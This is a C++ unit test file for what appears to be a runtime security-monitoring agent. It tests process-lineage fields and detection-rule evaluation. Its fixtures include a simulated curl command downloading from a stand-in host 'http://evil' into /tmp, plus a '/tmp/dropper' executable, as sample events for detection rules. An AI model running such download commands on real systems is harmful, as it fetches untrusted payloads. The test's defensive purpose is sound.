#include "fields/event_view.h"

#include <gtest/gtest.h>

#include "fields/catalogue.h"
#include "secl/compiler.h"

namespace picket::fields {
namespace {

constexpr std::uint64_t kSecond = 1'000'000'000ULL;
constexpr std::uint64_t kNow = 1'700'000'000ULL * kSecond;

// Builds process images and their lineage the way proc/ does: a fork copies
// the parent's image (is_thread), an exec creates a new image whose lineage
// parent is the pre-exec image.
class Lineage {
 public:
  proc::ProcessPtr Exec(proc::ProcessPtr pre_exec, std::uint32_t pid, std::string path,
                        std::vector<std::string> argv, std::uint32_t uid = 0) {
    auto image = std::make_shared<proc::Process>();
    image->key = {pid, pid * kSecond};
    image->parent_key = pre_exec ? pre_exec->parent_key : events::ProcessKey{};
    image->tid = pid;
    image->file.path = std::move(path);
    image->comm = image->file.path.substr(image->file.path.rfind('/') + 1).substr(0, 15);
    image->argv = std::move(argv);
    image->credentials.uid = uid;
    image->credentials.euid = uid;
    image->is_exec = true;
    image->exec_time_ns = kNow - 10 * kSecond;
    image->fork_time_ns = kNow - 20 * kSecond;
    image->lineage_depth = pre_exec ? pre_exec->lineage_depth + 1 : 0;
    image->lineage_parent = std::move(pre_exec);
    return image;
  }
  proc::ProcessPtr Fork(proc::ProcessPtr parent, std::uint32_t child_pid) {
    auto image = std::make_shared<proc::Process>(*parent);
    image->key = {child_pid, child_pid * kSecond};
    image->parent_key = parent->key;
    image->is_thread = true;
    image->is_exec = false;
    image->exec_time_ns = 0;
    image->lineage_depth = parent->lineage_depth + 1;
    image->lineage_parent = std::move(parent);
    return image;
  }
};

class EventViewTest : public ::testing::Test {
 protected:
  EventViewTest() : view_(FieldCatalogue::Default(), names_, EventHostContext{"host1", "ebpf"}) {}

  // sshd (uid 74) → fork → bash (uid 0? no: 1000) → fork → exec `image`.
  void BuildSshTree(std::string exe, std::vector<std::string> argv, std::uint32_t sshd_uid = 74) {
    init_ = lineage_.Exec(nullptr, 1, "/sbin/init", {"/sbin/init"}, 0);
    auto sshd_fork = lineage_.Fork(init_, 100);
    auto sshd = lineage_.Exec(sshd_fork, 100, "/usr/sbin/sshd", {"sshd", "-D"}, sshd_uid);
    auto bash_fork = lineage_.Fork(sshd, 200);
    auto bash = lineage_.Exec(bash_fork, 200, "/bin/bash", {"-bash"}, 1000);
    auto child_fork = lineage_.Fork(bash, 300);
    image_ = lineage_.Exec(child_fork, 300, std::move(exe), std::move(argv), 1000);
    image_->parent_key = bash->key;
    exec_.timestamp_ns = kNow;
    exec_.process = image_->key;
    event_ = exec_;
    view_.Bind(event_, image_.get(), static_cast<std::int64_t>(kNow));
  }

  secl::Value Get(std::string_view name, std::uint32_t element = secl::kNoElement) {
    const secl::FieldInfo* info = FieldCatalogue::Default().Find(name);
    EXPECT_NE(info, nullptr) << name;
    return view_.Get(info->id, element);
  }
  std::vector<std::string> Array(std::string_view name, std::uint32_t element = secl::kNoElement) {
    const secl::FieldInfo* info = FieldCatalogue::Default().Find(name);
    std::vector<std::string> items;
    for (std::size_t i = 0; i < view_.ArrayLength(info->id, element); ++i) {
      items.emplace_back(view_.GetAt(info->id, element, i).string_value);
    }
    return items;
  }

  // Compiles `text` as a rule (or as a filter when it names no event type)
  // against the catalogue and evaluates it on the bound event.
  bool Matches(std::string_view text) {
    secl::CompileResult compiled = secl::CompileRule(text, FieldCatalogue::Default(), environment_);
    if (!compiled.program) {
      compiled = secl::CompileFilter(text, FieldCatalogue::Default(), environment_);
    }
    EXPECT_TRUE(compiled.program.has_value()) << compiled.diagnostics.RenderAll(text);
    return compiled.program && secl::Evaluate(*compiled.program, view_);
  }

  UserNames names_;
  EventView view_;
  Lineage lineage_;
  secl::Environment environment_;
  proc::ProcessPtr init_;
  proc::ProcessPtr image_;
  events::ExecEvent exec_;
  events::Event event_;
};

TEST_F(EventViewTest, ExecReadsTheNewImage) {
  BuildSshTree("/usr/bin/curl", {"curl", "-sS", "-o", "/tmp/x", "http://evil"});
  EXPECT_EQ(Get("exec.file.path").string_value, "/usr/bin/curl");
  EXPECT_EQ(Get("process.file.path").string_value, "/usr/bin/curl");
  EXPECT_EQ(Get("exec.file.name").string_value, "curl");
  EXPECT_EQ(Get("exec.comm").string_value, "curl");
  EXPECT_EQ(Get("exec.argv0").string_value, "curl");
  EXPECT_EQ(Get("exec.args").string_value, "-sS -o /tmp/x http://evil");
  EXPECT_EQ(Array("exec.argv"), (std::vector<std::string>{"-sS", "-o", "/tmp/x", "http://evil"}));
  EXPECT_EQ(Array("exec.args_flags"), (std::vector<std::string>{"s", "S", "sS", "o"}));
  EXPECT_EQ(Array("exec.args_options"), (std::vector<std::string>{"o=/tmp/x"}));
  EXPECT_EQ(Get("exec.pid").int_value, 300);
  EXPECT_EQ(Get("process.ppid").int_value, 200);
  EXPECT_EQ(Get("exec.uid").int_value, 1000);
  EXPECT_EQ(Get("process.is_exec").bool_value, true);
  EXPECT_EQ(Get("process.created_at").int_value, static_cast<std::int64_t>(kNow - 10 * kSecond));
  EXPECT_EQ(Get("event.timestamp").int_value, static_cast<std::int64_t>(kNow));
  EXPECT_EQ(Get("event.hostname").string_value, "host1");
  EXPECT_EQ(Get("event.origin").string_value, "ebpf");
  EXPECT_EQ(Get("event.os").string_value, "linux");
  EXPECT_EQ(Get("event.source").string_value, "runtime");
  EXPECT_EQ(view_.NowNs(), static_cast<std::int64_t>(kNow));
}

TEST_F(EventViewTest, ParentIsThePreExecImageAndAncestorsTheChain) {
  BuildSshTree("/usr/bin/curl", {"curl"});
  // The pre-exec image of pid 300 is the fork copy of bash.
  EXPECT_EQ(Get("process.parent.pid").int_value, 300);
  EXPECT_EQ(Get("process.parent.file.name").string_value, "bash");
  EXPECT_EQ(Get("process.parent.is_thread").bool_value, true);
  // curl ← fork(bash) ← bash ← fork(sshd) ← sshd ← fork(init) ← init.
  EXPECT_EQ(view_.IteratorLength(FieldCatalogue::Default().ancestors_iterator()), 6u);
  std::vector<std::string> names;
  for (std::uint32_t i = 0; i < 6; ++i) {
    names.emplace_back(Get("process.ancestors.file.name", i).string_value);
  }
  EXPECT_EQ(names, (std::vector<std::string>{"bash", "bash", "sshd", "sshd", "init", "init"}));
  EXPECT_EQ(Get("process.ancestors.file.name", 6).string_value, "");  // out of range
  EXPECT_EQ(Array("process.ancestors.argv", 2), (std::vector<std::string>{"-D"}));
}

TEST_F(EventViewTest, UserNamesResolve) {
  BuildSshTree("/usr/bin/id", {"id"});
  EXPECT_EQ(Get("process.ancestors.user", 5).string_value, "root");  // init, uid 0
  EXPECT_EQ(Get("process.ancestors.group", 5).string_value, "root");
}

// Checklist 30–32 through compiled rules.
TEST_F(EventViewTest, Checklist30To32ArgvSemantics) {
  BuildSshTree("/bin/ls", {"ls", "-la", "-T", "8"});
  EXPECT_TRUE(Matches(R"(exec.args_flags in ["l"])"));
  EXPECT_TRUE(Matches(R"(exec.args_flags in ["la"])"));
  EXPECT_TRUE(Matches(R"(exec.args_options in ["T=8"])"));
  EXPECT_FALSE(Matches(R"(exec.args_flags in ["x"])"));
  BuildSshTree("/bin/sh", {"sh", "-c", "python KubiScan.py"});
  EXPECT_TRUE(Matches(R"(exec.argv == "-c")"));
  EXPECT_FALSE(Matches(R"(exec.argv != "-c")"));
  EXPECT_FALSE(Matches(R"("KubiScan.py" in exec.argv)"));
  BuildSshTree("/usr/bin/python3", {"python3", "KubiScan.py"});
  EXPECT_TRUE(Matches(R"("KubiScan.py" in exec.argv)"));
}

// Checklist 33: unbound iterator conditions are independent.
TEST_F(EventViewTest, Checklist33IndependentAncestorConditions) {
  BuildSshTree("/usr/bin/id", {"id"}, /*sshd_uid=*/74);
  EXPECT_TRUE(Matches(
      R"(exec.comm == "id" && process.ancestors.file.name == "sshd" && process.ancestors.uid == 0)"));
}

// Checklist 34: a register correlates conditions on one ancestor.
TEST_F(EventViewTest, Checklist34RegisterCorrelates) {
  const char* rule =
      R"(exec.comm == "id" && process.ancestors[A].file.name == "sshd" && process.ancestors[A].uid == 0)";
  BuildSshTree("/usr/bin/id", {"id"}, /*sshd_uid=*/74);
  EXPECT_FALSE(Matches(rule));
  BuildSshTree("/usr/bin/id", {"id"}, /*sshd_uid=*/0);
  EXPECT_TRUE(Matches(rule));
}

// Checklist 35: != over ancestors means "no ancestor", vacuously true.
TEST_F(EventViewTest, Checklist35NegatedIteratorOverEmptyChain) {
  exec_ = events::ExecEvent{};
  exec_.timestamp_ns = kNow;
  exec_.process = {42, kNow};
  exec_.file.path = "/usr/bin/orphan";
  exec_.comm = "orphan";
  event_ = exec_;
  view_.Bind(event_, /*image=*/nullptr, static_cast<std::int64_t>(kNow));
  EXPECT_TRUE(Matches(R"(exec.comm == "orphan" && process.ancestors.file.name != "bash")"));
  EXPECT_EQ(Get("exec.file.path").string_value, "/usr/bin/orphan");  // image built from the event
  EXPECT_EQ(Get("process.parent.file.path").string_value, "");
  BuildSshTree("/usr/bin/id", {"id"});
  EXPECT_FALSE(Matches(R"(exec.comm == "id" && process.ancestors.file.name != "bash")"));
}

// Checklist 43: durations compare against the view's "now".
TEST_F(EventViewTest, Checklist43AgeUsesEvaluationTime) {
  BuildSshTree("/tmp/dropper", {"dropper"});
  image_->file.change_time_ns = kNow - 5 * kSecond;
  EXPECT_TRUE(Matches(R"(exec.file.change_time < 30s)"));
  image_->file.change_time_ns = kNow - 60 * kSecond;
  view_.Bind(event_, image_.get(), static_cast<std::int64_t>(kNow));
  EXPECT_FALSE(Matches(R"(exec.file.change_time < 30s)"));
}

TEST_F(EventViewTest, PathGlobOnAncestors) {
  BuildSshTree("/usr/bin/curl", {"curl"});
  EXPECT_TRUE(
      Matches(R"(exec.file.name == "curl" && process.ancestors.file.path =~ "/usr/sbin/*")"));
  EXPECT_FALSE(Matches(R"(exec.file.name == "curl" && process.ancestors.file.path =~ "/tmp/**")"));
  EXPECT_TRUE(Matches(R"(exec.file.name == "curl" && process.ancestors.length == 6)"));
}

TEST_F(EventViewTest, ExitCodeAndCause) {
  BuildSshTree("/usr/bin/false", {"false"});
  struct ExitCase {
    std::int32_t status;
    std::int64_t code;
    std::int64_t cause;
  };
  const ExitCase cases[] = {
      {1 << 8, 1, kExitExited},
      {0, 0, kExitExited},
      {9, 9, kExitSignaled},
      {11 | 0x80, 11, kExitCoredumped},
  };
  for (const ExitCase& c : cases) {
    SCOPED_TRACE(c.status);
    events::ExitEvent exit;
    exit.timestamp_ns = kNow;
    exit.process = image_->key;
    exit.exit_code = c.status;
    event_ = exit;
    view_.Bind(event_, image_.get(), static_cast<std::int64_t>(kNow));
    EXPECT_EQ(Get("exit.code").int_value, c.code);
    EXPECT_EQ(Get("exit.cause").int_value, c.cause);
    EXPECT_EQ(Get("exit.file.name").string_value, "false");
  }
}

TEST_F(EventViewTest, ForkReadsTheChildImage) {
  BuildSshTree("/bin/bash", {"bash"});
  proc::ProcessPtr child = lineage_.Fork(image_, 400);
  events::ForkEvent fork;
  fork.timestamp_ns = kNow;
  fork.child = child->key;
  fork.parent = image_->key;
  event_ = fork;
  view_.Bind(event_, child.get(), static_cast<std::int64_t>(kNow));
  EXPECT_EQ(Get("process.pid").int_value, 400);
  EXPECT_TRUE(Get("process.is_thread").bool_value);
  EXPECT_EQ(Get("process.parent.pid").int_value, 300);
  EXPECT_EQ(Get("process.file.name").string_value, "bash");
}

TEST_F(EventViewTest, MissingDataReadsAsZeroValues) {
  events::ExitEvent exit;
  exit.process = {7, 7};
  event_ = exit;
  view_.Bind(event_, /*image=*/nullptr, 0);
  EXPECT_EQ(Get("process.file.path").string_value, "");
  EXPECT_EQ(Get("process.pid").int_value, 0);
  EXPECT_EQ(Get("process.is_thread").bool_value, false);
  EXPECT_TRUE(Array("process.argv").empty());
  EXPECT_EQ(view_.IteratorLength(FieldCatalogue::Default().ancestors_iterator()), 0u);
  // Unsupported fields read as their zero value of the right type.
  EXPECT_EQ(Get("container.created_at").type, secl::ScalarType::kInt);
  EXPECT_EQ(Get("exec.file.in_upper_layer").type, secl::ScalarType::kBool);
  view_.Reset();
  EXPECT_EQ(Get("event.timestamp").int_value, 0);
}

TEST_F(EventViewTest, AncestorsAreBounded) {
  proc::ProcessPtr image = lineage_.Exec(nullptr, 1, "/sbin/init", {"init"});
  for (std::uint32_t i = 0; i < 1000; ++i) image = lineage_.Fork(image, 2 + i);
  events::ForkEvent fork;
  event_ = fork;
  view_.Bind(event_, image.get(), 0);
  EXPECT_EQ(view_.IteratorLength(FieldCatalogue::Default().ancestors_iterator()),
            EventView::kMaxAncestors);
}

// The lineage memo answers "some ancestor matches" exactly as the walk does,
// over lineages that share ancestors, for attributes it remembers (file
// path/name, comm, argv0, args) and ones it must not (user names).
TEST_F(EventViewTest, LineageMemoAnswersAsTheWalkDoes) {
  EventView walking(FieldCatalogue::Default(), names_, EventHostContext{"host1", "ebpf"});
  view_.set_lineage_memo_enabled(true);
  const std::vector<std::string> rules = {
      R"(process.ancestors.file.name == "sshd")",
      R"(process.ancestors.file.name in ["cron", "bash"])",
      R"(process.ancestors.file.path in [~"/tmp/**", ~"/home/*/bin/*"])",
      R"(process.ancestors.file.path not in [~"/usr/**"])",
      R"(process.ancestors.comm =~ "py*")",
      R"(process.ancestors.argv0 == "-bash")",
      R"(process.ancestors.args =~ "*--daemon*")",
      R"(process.ancestors.user == "root")",
      R"(process.ancestors.file.name == "sshd" && process.ancestors.file.name != "cron")",
  };
  std::vector<secl::Program> programs;
  for (const std::string& rule : rules) {
    secl::CompileResult compiled =
        secl::CompileFilter(rule, FieldCatalogue::Default(), environment_);
    ASSERT_TRUE(compiled.program.has_value()) << compiled.diagnostics.RenderAll(rule);
    programs.push_back(std::move(*compiled.program));
  }
  const char* paths[] = {"/usr/sbin/sshd", "/usr/sbin/cron",   "/bin/bash",
                         "/tmp/x/run.sh",  "/usr/bin/python3", "/home/u/bin/tool"};
  // A forest grown at random: each new process forks from a known image and
  // execs (or not) one of the paths; every exec is evaluated on both views.
  std::vector<proc::ProcessPtr> known = {lineage_.Exec(nullptr, 1, "/sbin/init", {"init"}, 0)};
  std::uint32_t seed = 12345;
  auto next = [&seed](std::uint32_t bound) {
    seed = seed * 1103515245 + 12345;
    return (seed >> 16) % bound;
  };
  std::size_t matched = 0;
  for (std::uint32_t pid = 2; pid < 400; ++pid) {
    proc::ProcessPtr parent = known[next(static_cast<std::uint32_t>(known.size()))];
    proc::ProcessPtr child = lineage_.Fork(parent, pid);
    std::string path = paths[next(6)];
    std::vector<std::string> argv = {next(4) == 0 ? "-bash" : path};
    if (next(3) == 0) argv.emplace_back("--daemon");
    proc::ProcessPtr image = lineage_.Exec(child, pid, path, argv, next(2) * 1000);
    known.push_back(next(2) == 0 ? child : image);
    known.push_back(image);
    exec_.timestamp_ns = kNow;
    exec_.process = image->key;
    event_ = exec_;
    view_.Bind(event_, image.get(), static_cast<std::int64_t>(kNow));
    walking.Bind(event_, image.get(), static_cast<std::int64_t>(kNow));
    for (std::size_t r = 0; r < programs.size(); ++r) {
      const bool expected = secl::Evaluate(programs[r], walking);
      ASSERT_EQ(secl::Evaluate(programs[r], view_), expected) << rules[r] << " on pid " << pid;
      matched += expected ? 1 : 0;
    }
  }
  EXPECT_GT(matched, 0u);
  EXPECT_GT(view_.lineage_memo_size(), 0u);
  EXPECT_LE(view_.lineage_memo_size(), EventView::kMaxLineageMemoEntries);
  EXPECT_EQ(walking.lineage_memo_size(), 0u);  // off unless turned on
}

// What the memo remembers is what answers: an ancestor changed behind its
// back (which the tree never does) keeps its old verdict until ForgetLineage.
// One compiled rule throughout: the memo names the matcher it was asked
// about, and a recompiled rule is another matcher.
TEST_F(EventViewTest, LineageMemoAnswersFromMemoryUntilForgotten) {
  view_.set_lineage_memo_enabled(true);
  secl::CompileResult compiled = secl::CompileFilter(R"(process.ancestors.file.name == "sshd")",
                                                     FieldCatalogue::Default(), environment_);
  ASSERT_TRUE(compiled.program.has_value());
  auto matches = [&] { return secl::Evaluate(*compiled.program, view_); };
  BuildSshTree("/usr/bin/id", {"id"});
  EXPECT_TRUE(matches());
  // bash and everything above it (bash's fork copy of sshd, sshd, …).
  proc::Process* bash = image_->lineage_parent->lineage_parent.get();
  for (proc::Process* p = bash; p != nullptr; p = p->lineage_parent.get()) {
    p->file.path = "/usr/sbin/not-sshd";
  }
  auto sibling = lineage_.Exec(lineage_.Fork(image_->lineage_parent->lineage_parent, 301), 301,
                               "/usr/bin/id", {"id"});
  exec_.process = sibling->key;
  event_ = exec_;
  view_.Bind(event_, sibling.get(), static_cast<std::int64_t>(kNow));
  EXPECT_TRUE(matches());  // bash's remembered verdict
  view_.ForgetLineage();
  EXPECT_EQ(view_.lineage_memo_size(), 0u);
  view_.Bind(event_, sibling.get(), static_cast<std::int64_t>(kNow));
  EXPECT_FALSE(matches());
}

// A remembered image keeps its address: a lineage freed and rebuilt never
// inherits the old lineage's verdicts, however the allocator reuses memory.
TEST_F(EventViewTest, LineageMemoNeverConfusesAFreedImageWithANewOne) {
  view_.set_lineage_memo_enabled(true);
  secl::CompileResult compiled = secl::CompileFilter(R"(process.ancestors.file.name == "sshd")",
                                                     FieldCatalogue::Default(), environment_);
  ASSERT_TRUE(compiled.program.has_value());
  for (int round = 0; round < 50; ++round) {
    const bool with_sshd = round % 2 == 0;
    proc::ProcessPtr top =
        lineage_.Exec(nullptr, 1, with_sshd ? "/usr/sbin/sshd" : "/sbin/init", {"top"});
    proc::ProcessPtr fork = lineage_.Fork(top, 2);
    top.reset();
    proc::ProcessPtr image = lineage_.Exec(std::move(fork), 2, "/usr/bin/id", {"id"});
    exec_.process = image->key;
    event_ = exec_;
    view_.Bind(event_, image.get(), static_cast<std::int64_t>(kNow));
    ASSERT_EQ(secl::Evaluate(*compiled.program, view_), with_sshd) << "round " << round;
    view_.Reset();
  }
}

// The memo trusts the tree's depth bound (Process::lineage_depth) to know a
// lineage fits in kMaxAncestors without walking it. Images linked by hand
// (depth 0 with a parent) or with a bound that is too small must answer as
// the bounded walk does: an sshd 300 images up is beyond what is bound.
TEST_F(EventViewTest, LineageMemoAnswersAsTheBoundedWalkWhenTheDepthBoundIsWrong) {
  view_.set_lineage_memo_enabled(true);
  EventView walking(FieldCatalogue::Default(), names_, EventHostContext{"host1", "ebpf"});
  secl::CompileResult compiled = secl::CompileFilter(R"(process.ancestors.file.name == "sshd")",
                                                     FieldCatalogue::Default(), environment_);
  ASSERT_TRUE(compiled.program.has_value());
  proc::ProcessPtr image = lineage_.Exec(nullptr, 1, "/usr/sbin/sshd", {"sshd"});
  for (std::uint32_t pid = 2; pid < 302; ++pid) {
    image = lineage_.Exec(lineage_.Fork(image, pid), pid, "/bin/sh", {"sh"});
  }
  exec_.process = image->key;
  event_ = exec_;
  for (std::uint32_t depth : {0u, 1u, 100u}) {
    image->lineage_depth = depth;
    view_.Bind(event_, image.get(), static_cast<std::int64_t>(kNow));
    walking.Bind(event_, image.get(), static_cast<std::int64_t>(kNow));
    EXPECT_EQ(view_.ancestor_count(), EventView::kMaxAncestors);
    EXPECT_FALSE(secl::Evaluate(*compiled.program, walking)) << "depth " << depth;
    EXPECT_FALSE(secl::Evaluate(*compiled.program, view_)) << "depth " << depth;
  }
}

TEST_F(EventViewTest, RuleTagsAndServiceAndContainer) {
  BuildSshTree("/usr/bin/app", {"app"});
  image_->envp = {"PATH=/bin", "DD_SERVICE=billing"};
  image_->container_id = "0123abcd";
  image_->cgroup_path = "/system.slice/docker-0123abcd.scope";
  image_->cgroup_id = 99;
  std::vector<std::string> tags{"policy:threat-detection"};
  view_.set_rule_tags(tags);
  EXPECT_EQ(Get("event.service").string_value, "billing");
  EXPECT_EQ(Array("exec.envs"), (std::vector<std::string>{"PATH", "DD_SERVICE"}));
  EXPECT_EQ(Array("event.rule.tags"), tags);
  EXPECT_EQ(Get("container.id").string_value, "0123abcd");
  EXPECT_EQ(Get("process.container.id").string_value, "0123abcd");
  EXPECT_EQ(Get("cgroup.manager").string_value, "docker");
  EXPECT_EQ(Get("cgroup.file.inode").int_value, 99);
}

}  // namespace
}  // namespace picket::fields
